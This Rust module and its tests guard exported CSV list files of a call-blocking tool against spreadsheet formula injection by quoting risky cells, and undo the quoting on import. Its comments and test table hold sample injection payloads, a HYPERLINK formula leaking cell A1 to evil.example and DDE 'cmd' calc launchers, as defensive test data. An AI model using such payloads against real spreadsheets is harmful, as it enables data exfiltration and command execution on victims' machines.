//! Spreadsheet formula injection ("CSV injection") in the list files and
//! exports we write, and its exact inverse for the files we read.
//!
//! A list file is meant to be opened in a spreadsheet, and some of its cells
//! come from strangers: `block --from-call` turns whatever caller ID a PBX
//! reported into an exact rule, so a caller ID of
//! `=HYPERLINK("http://evil.example/?"&A1,"click")` would become a live
//! formula in the operator's spreadsheet. OWASP's "CSV Injection" page
//! (<https://owasp.org/www-community/attacks/CSV_Injection>) names the cells a
//! spreadsheet may run as a formula — those beginning with `=`, `+`, `-`,
//! `@`, tab (0x09) or carriage return (0x0D) — and the fix: prefix such a
//! cell with a single quote `'`, which every spreadsheet reads as "this cell
//! is text".
//!
//! Quoting every such cell would also quote every E.164 number (`+15551234567`)
//! and wildcard (`+1555_______`, `+44*`), the bulk of any list, making the
//! file harder to read and to edit. Those need no quote: a formula can only
//! do harm by calling a function (`HYPERLINK`, `WEBSERVICE`), referring to
//! a cell, sheet or workbook (`A1`, `Sheet1!A1`, `[1]`), or starting a DDE
//! command (`cmd|' /C calc'!A0`), and every one of those needs a letter or
//! one of `! | & " ' : ; , = @ %`. So a cell is left as it is when, after its
//! leading `+` or `-`, it holds only [`PLAIN`] characters: ASCII digits,
//! space, the number separators `- . ( )` that callers and spreadsheets
//! write, and the wildcard grammar's `+ _ * [ ] ^ $` (`src/policy/pattern.rs`;
//! a class with letters, `[a-z]`, is quoted, which is merely cautious). A
//! spreadsheet may still compute such a cell (`+44` shows as `44`), but it
//! can neither reach out nor read another cell. Any other cell that starts
//! with a trigger gets the quote.
//!
//! Reading undoes exactly that, so export → import and write → read give the
//! same rules: a cell that starts with `'` followed by a trigger character
//! loses that one quote. To keep this lossless for a value that itself
//! begins with quotes before a trigger (`'=x`, `'+1`), the writer adds one
//! more quote to it (`''=x`) and the reader removes one: a cell is
//! `'`×k + rest, with rest not starting with `'`; it is written with one more
//! quote when rest starts with a trigger and either k > 0 or rest is not
//! plain, and read with one quote less when k > 0 and rest starts with a
//! trigger. The reader thus also accepts `'+15551234567` as written by tools
//! that quote every trigger cell.
//!
//! JSON and XML files are not spreadsheet input and are written verbatim.

use std::borrow::Cow;

/// First characters that make a spreadsheet read a cell as a formula (OWASP).
pub(crate) const TRIGGERS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// Characters of phone numbers and the wildcard grammar, none of which can
/// name a function, a cell or a DDE command. `=`, `@`, tab and CR are not in
/// it, so a cell starting with one of those is always quoted.
pub(crate) fn is_plain(c: char) -> bool {
    c.is_ascii_digit()
        || matches!(
            c,
            ' ' | '+' | '-' | '.' | '(' | ')' | '_' | '*' | '[' | ']' | '^' | '$'
        )
}

fn starts_with_trigger(s: &str) -> bool {
    s.starts_with(TRIGGERS)
}

/// The value as it goes into a CSV cell (before CSV quoting).
pub(crate) fn neutralise(value: &str) -> Cow<'_, str> {
    let rest = value.trim_start_matches('\'');
    let quoted = value.len() != rest.len();
    if starts_with_trigger(rest) && (quoted || !rest.chars().all(is_plain)) {
        Cow::Owned(format!("'{value}"))
    } else {
        Cow::Borrowed(value)
    }
}

/// The value a CSV cell (after CSV unquoting) stands for: the inverse of
/// [`neutralise`].
pub(crate) fn restore(cell: &str) -> &str {
    match cell.strip_prefix('\'') {
        Some(tail) if starts_with_trigger(tail.trim_start_matches('\'')) => tail,
        _ => cell,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Each cell as written, and whether it was quoted.
    const TABLE: &[(&str, &str)] = &[
        // Numbers and patterns stay readable.
        ("+15551234567", "+15551234567"),
        ("+1555_______", "+1555_______"),
        ("+44*", "+44*"),
        ("+1 (555) 123-4567", "+1 (555) 123-4567"),
        ("+1.555.123.4567", "+1.555.123.4567"),
        ("+1555[0-5]__$", "+1555[0-5]__$"),
        ("+1555[^09]*", "+1555[^09]*"),
        ("-1", "-1"),
        ("+", "+"),
        ("15551234567", "15551234567"),
        ("^(?!\\+1)[+][0-9]+$", "^(?!\\+1)[+][0-9]+$"),
        ("Block-+15551234567", "Block-+15551234567"),
        ("", ""),
        ("plain text, with = inside", "plain text, with = inside"),
        ("'quoted text", "'quoted text"),
        ("'", "'"),
        // Formulas and anything that could be one get the quote.
        (
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
            "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
        ),
        ("=1+1", "'=1+1"),
        ("=", "'="),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("@", "'@"),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("+1555[a-z]", "'+1555[a-z]"),
        ("+1!", "'+1!"),
        ("+1&2", "'+1&2"),
        ("-- see ticket 7", "'-- see ticket 7"),
        ("\t+1555", "'\t+1555"),
        ("\r=1", "'\r=1"),
        // Values that already start with quotes before a trigger get one more,
        // so reading gives them back.
        ("'=1+1", "''=1+1"),
        ("'+15551234567", "''+15551234567"),
        ("''@x", "'''@x"),
    ];

    #[test]
    fn cells_are_quoted_only_when_they_could_be_a_formula() {
        for (value, written) in TABLE {
            assert_eq!(neutralise(value), *written, "{value:?}");
            assert_eq!(restore(written), *value, "{written:?}");
        }
    }

    #[test]
    fn quotes_of_other_tools_are_taken_off() {
        assert_eq!(restore("'+15551234567"), "+15551234567");
        assert_eq!(restore("'=A1"), "=A1");
        assert_eq!(restore("'abc"), "'abc");
        assert_eq!(restore("'"), "'");
        assert_eq!(restore("''"), "''");
    }

    #[test]
    fn every_value_survives_a_round_trip() {
        let alphabet = [
            '\'', '=', '+', '-', '@', '\t', '\r', '1', 'a', ' ', '*', '(',
        ];
        let mut values = vec![String::new()];
        for _ in 0..4 {
            let longer: Vec<String> = values
                .iter()
                .flat_map(|v| alphabet.iter().map(move |c| format!("{v}{c}")))
                .collect();
            values.extend(longer);
            values.sort();
            values.dedup();
        }
        for v in &values {
            let written = neutralise(v);
            assert_eq!(restore(&written), v, "{v:?} written as {written:?}");
            // What is written never starts a formula.
            let unquoted = written.trim_start_matches('\'');
            assert!(
                written.starts_with('\'')
                    || !unquoted.starts_with(TRIGGERS)
                    || unquoted.chars().all(is_plain),
                "{v:?} written as {written:?}"
            );
        }
    }
}
